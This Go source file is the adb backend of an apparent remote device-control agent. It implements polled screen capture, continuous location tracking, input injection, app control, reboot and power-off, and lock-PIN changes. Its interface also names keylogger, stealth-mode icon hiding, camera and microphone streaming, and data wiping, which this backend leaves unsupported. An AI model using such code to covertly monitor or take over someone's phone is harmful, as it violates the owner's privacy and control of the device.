package device

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"os/exec"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"time"

	"mq_agent/pkg/errs"
)

// Runner 执行一条 adb 命令并返回输出
type Runner func(ctx context.Context, args ...string) ([]byte, error)

// ExecRunner 调用本机 adb，serial 非空时指定设备
func ExecRunner(serial string) Runner {
	return func(ctx context.Context, args ...string) ([]byte, error) {
		if serial != "" {
			args = append([]string{"-s", serial}, args...)
		}
		cmd := exec.CommandContext(ctx, "adb", args...)
		var stderr bytes.Buffer
		cmd.Stderr = &stderr
		output, err := cmd.Output()
		if err != nil {
			msg := strings.TrimSpace(stderr.String())
			if msg == "" {
				msg = strings.TrimSpace(string(output))
			}
			return output, fmt.Errorf("adb %s: %v: %s", strings.Join(args, " "), err, msg)
		}
		return output, nil
	}
}

// ADB 通过 adb 控制一台真实设备。adb shell 做不到的能力返回 ErrUnsupported。
type ADB struct {
	run            Runner
	ScreenInterval time.Duration
}

// NewADB 创建 adb 后端
func NewADB(run Runner) *ADB {
	return &ADB{run: run, ScreenInterval: time.Second / 15}
}

// NewADBDevice 用 adb 后端和给定文件系统组装一台设备
func NewADBDevice(a *ADB, files FileSystem) *Device {
	return &Device{
		Camera:     a,
		Microphone: a,
		Screen:     a,
		Location:   a,
		Info:       a,
		Apps:       a,
		Browser:    a,
		Radios:     a,
		Vibrator:   a,
		Notifier:   a,
		Clipboard:  a,
		Input:      a,
		Display:    a,
		Audio:      a,
		Admin:      a,
		KeyEvents:  a,
		Launcher:   a,
		Files:      files,
		Downloader: NewHTTPDownloader(files),
	}
}

func (a *ADB) shell(ctx context.Context, args ...string) (string, error) {
	output, err := a.run(ctx, append([]string{"shell"}, args...)...)
	return strings.TrimSpace(string(output)), err
}

func (a *ADB) TakePicture(ctx context.Context, facing string) ([]byte, error) {
	return nil, errs.Unsupported("take_picture")
}

func (a *ADB) OpenCameraStream(facing string) (FrameSource, error) {
	return nil, errs.Unsupported("stream_camera")
}

func (a *ADB) Record(ctx context.Context, duration time.Duration) ([]byte, error) {
	return nil, errs.Unsupported("record_audio")
}

func (a *ADB) OpenMicStream() (FrameSource, error) {
	return nil, errs.Unsupported("stream_mic")
}

func (a *ADB) Capture(ctx context.Context) ([]byte, error) {
	output, err := a.run(ctx, "exec-out", "screencap", "-p")
	if err != nil {
		return nil, err
	}
	if len(output) == 0 {
		return nil, fmt.Errorf("screencap returned no data")
	}
	return output, nil
}

// OpenScreenStream 以 ScreenInterval 间隔轮询截屏
func (a *ADB) OpenScreenStream() (FrameSource, error) {
	return &pollingSource{interval: a.ScreenInterval, capture: a.Capture}, nil
}

var locationPattern = regexp.MustCompile(`Location\[\w+ (-?\d+\.\d+),(-?\d+\.\d+)(?:.*?hAcc=(\d+(?:\.\d+)?))?`)

func (a *ADB) CurrentLocation(ctx context.Context) (*Fix, error) {
	output, err := a.shell(ctx, "dumpsys", "location")
	if err != nil {
		return nil, err
	}
	m := locationPattern.FindStringSubmatch(output)
	if m == nil {
		return nil, fmt.Errorf("Location not available")
	}
	lat, _ := strconv.ParseFloat(m[1], 64)
	lng, _ := strconv.ParseFloat(m[2], 64)
	acc, _ := strconv.ParseFloat(m[3], 64)
	return &Fix{Latitude: lat, Longitude: lng, Accuracy: acc, Timestamp: time.Now().UnixMilli()}, nil
}

func (a *ADB) WatchLocation(interval time.Duration, onFix func(Fix)) (io.Closer, error) {
	w := &ticker{done: make(chan struct{}), finished: make(chan struct{})}
	go func() {
		defer close(w.finished)
		t := time.NewTicker(interval)
		defer t.Stop()
		for {
			select {
			case <-w.done:
				return
			case <-t.C:
				ctx, cancel := context.WithTimeout(context.Background(), interval)
				fix, err := a.CurrentLocation(ctx)
				cancel()
				if err == nil {
					onFix(*fix)
				}
			}
		}
	}()
	return w, nil
}

func (a *ADB) DeviceInfo(ctx context.Context) (map[string]interface{}, error) {
	info := make(map[string]interface{})
	props := map[string]string{
		"manufacturer":    "ro.product.manufacturer",
		"model":           "ro.product.model",
		"android_version": "ro.build.version.release",
		"sdk_version":     "ro.build.version.sdk",
		"serial":          "ro.serialno",
	}
	for key, prop := range props {
		value, err := a.shell(ctx, "getprop", prop)
		if err != nil {
			return nil, err
		}
		info[key] = value
	}
	if sdk, err := strconv.Atoi(fmt.Sprint(info["sdk_version"])); err == nil {
		info["sdk_version"] = sdk
	}

	if battery, err := a.shell(ctx, "dumpsys", "battery"); err == nil {
		for _, line := range strings.Split(battery, "\n") {
			line = strings.TrimSpace(line)
			if strings.HasPrefix(line, "level:") {
				if level, err := strconv.Atoi(strings.TrimSpace(strings.TrimPrefix(line, "level:"))); err == nil {
					info["battery_level"] = float64(level)
				}
			}
		}
	}

	if packages, err := a.shell(ctx, "pm", "list", "packages"); err == nil && packages != "" {
		info["installed_apps_count"] = len(strings.Split(packages, "\n"))
	}
	return info, nil
}

func (a *ADB) LaunchApp(ctx context.Context, packageName string) error {
	output, err := a.shell(ctx, "monkey", "-p", packageName, "-c", "android.intent.category.LAUNCHER", "1")
	if err != nil {
		return err
	}
	if strings.Contains(output, "No activities found") {
		return fmt.Errorf("App not found: %s", packageName)
	}
	return nil
}

func (a *ADB) CloseApp(ctx context.Context, packageName string) error {
	_, err := a.shell(ctx, "am", "force-stop", packageName)
	return err
}

func (a *ADB) OpenURL(ctx context.Context, url string) error {
	_, err := a.shell(ctx, "am", "start", "-a", "android.intent.action.VIEW", "-d", url)
	return err
}

func onOff(enabled bool) string {
	if enabled {
		return "enable"
	}
	return "disable"
}

func (a *ADB) SetWiFi(ctx context.Context, enabled bool) error {
	_, err := a.shell(ctx, "svc", "wifi", onOff(enabled))
	return err
}

func (a *ADB) SetBluetooth(ctx context.Context, enabled bool) error {
	_, err := a.shell(ctx, "svc", "bluetooth", onOff(enabled))
	return err
}

func (a *ADB) Vibrate(ctx context.Context, duration time.Duration) error {
	_, err := a.shell(ctx, "cmd", "vibrator_manager", "synced", "oneshot", strconv.FormatInt(duration.Milliseconds(), 10))
	return err
}

func (a *ADB) Toast(ctx context.Context, message string, long bool) error {
	return errs.Unsupported("show_toast")
}

func (a *ADB) ReadClipboard(ctx context.Context) (string, error) {
	return "", errs.Unsupported("clipboard_read")
}

func (a *ADB) WriteClipboard(ctx context.Context, text string) error {
	return errs.Unsupported("clipboard_write")
}

func (a *ADB) InjectInput(ctx context.Context, event InputEvent) error {
	var err error
	switch event.Action {
	case "tap":
		_, err = a.shell(ctx, "input", "tap", strconv.Itoa(event.X), strconv.Itoa(event.Y))
	case "swipe":
		_, err = a.shell(ctx, "input", "swipe", strconv.Itoa(event.X), strconv.Itoa(event.Y), strconv.Itoa(event.X2), strconv.Itoa(event.Y2))
	case "text":
		// input text 不接受空格
		_, err = a.shell(ctx, "input", "text", strings.ReplaceAll(event.Text, " ", "%s"))
	case "key":
		_, err = a.shell(ctx, "input", "keyevent", event.Text)
	case "back":
		_, err = a.shell(ctx, "input", "keyevent", "4")
	case "home":
		_, err = a.shell(ctx, "input", "keyevent", "3")
	default:
		return errs.Validation("Unsupported input action: %s", event.Action)
	}
	return err
}

func (a *ADB) SetBrightness(ctx context.Context, level int) error {
	_, err := a.shell(ctx, "settings", "put", "system", "screen_brightness", strconv.Itoa(level))
	return err
}

var volumeRangePattern = regexp.MustCompile(`\[(\d+)\.\.(\d+)\]`)

func (a *ADB) MaxVolume(ctx context.Context, stream int) (int, error) {
	output, err := a.shell(ctx, "cmd", "media_session", "volume", "--stream", strconv.Itoa(stream), "--get")
	if err != nil {
		return 0, err
	}
	m := volumeRangePattern.FindStringSubmatch(output)
	if m == nil {
		return 0, fmt.Errorf("cannot read volume range for stream %d", stream)
	}
	return strconv.Atoi(m[2])
}

func (a *ADB) SetVolume(ctx context.Context, stream, level int) error {
	_, err := a.shell(ctx, "cmd", "media_session", "volume", "--stream", strconv.Itoa(stream), "--set", strconv.Itoa(level))
	return err
}

// AdminActive adb shell 用户可以锁屏和重启，视为已激活
func (a *ADB) AdminActive() bool {
	return true
}

func (a *ADB) LockDevice(ctx context.Context) error {
	_, err := a.shell(ctx, "input", "keyevent", "KEYCODE_SLEEP")
	return err
}

func (a *ADB) Reboot(ctx context.Context) error {
	_, err := a.run(ctx, "reboot")
	return err
}

func (a *ADB) PowerOff(ctx context.Context) error {
	_, err := a.shell(ctx, "reboot", "-p")
	return err
}

func (a *ADB) WipeData(ctx context.Context) error {
	return errs.Unsupported("wipe_data")
}

func (a *ADB) ChangePIN(ctx context.Context, pin string) error {
	_, err := a.shell(ctx, "locksettings", "set-pin", pin)
	return err
}

func (a *ADB) LockApp(ctx context.Context, packageName string, locked bool) error {
	return errs.Unsupported("lock_app")
}

func (a *ADB) OpenKeyEvents() (FrameSource, error) {
	return nil, errs.Unsupported("keylogger")
}

func (a *ADB) SetIconHidden(ctx context.Context, hidden bool) error {
	return errs.Unsupported("stealth_mode")
}

// pollingSource 周期调用 capture 的采集源
type pollingSource struct {
	interval time.Duration
	capture  func(ctx context.Context) ([]byte, error)

	mu      sync.Mutex
	cancel  context.CancelFunc
	stopped chan struct{}
}

func (p *pollingSource) Start(onFrame func([]byte)) error {
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.cancel != nil {
		return fmt.Errorf("screen source already started")
	}

	ctx, cancel := context.WithCancel(context.Background())
	p.cancel = cancel
	p.stopped = make(chan struct{})
	go func(stopped chan struct{}) {
		defer close(stopped)
		t := time.NewTicker(p.interval)
		defer t.Stop()
		for {
			select {
			case <-ctx.Done():
				return
			case <-t.C:
				frame, err := p.capture(ctx)
				if err == nil {
					onFrame(frame)
				}
			}
		}
	}(p.stopped)
	return nil
}

func (p *pollingSource) Stop() error {
	p.mu.Lock()
	cancel, stopped := p.cancel, p.stopped
	p.cancel = nil
	p.mu.Unlock()
	if cancel == nil {
		return nil
	}
	cancel()
	<-stopped
	return nil
}
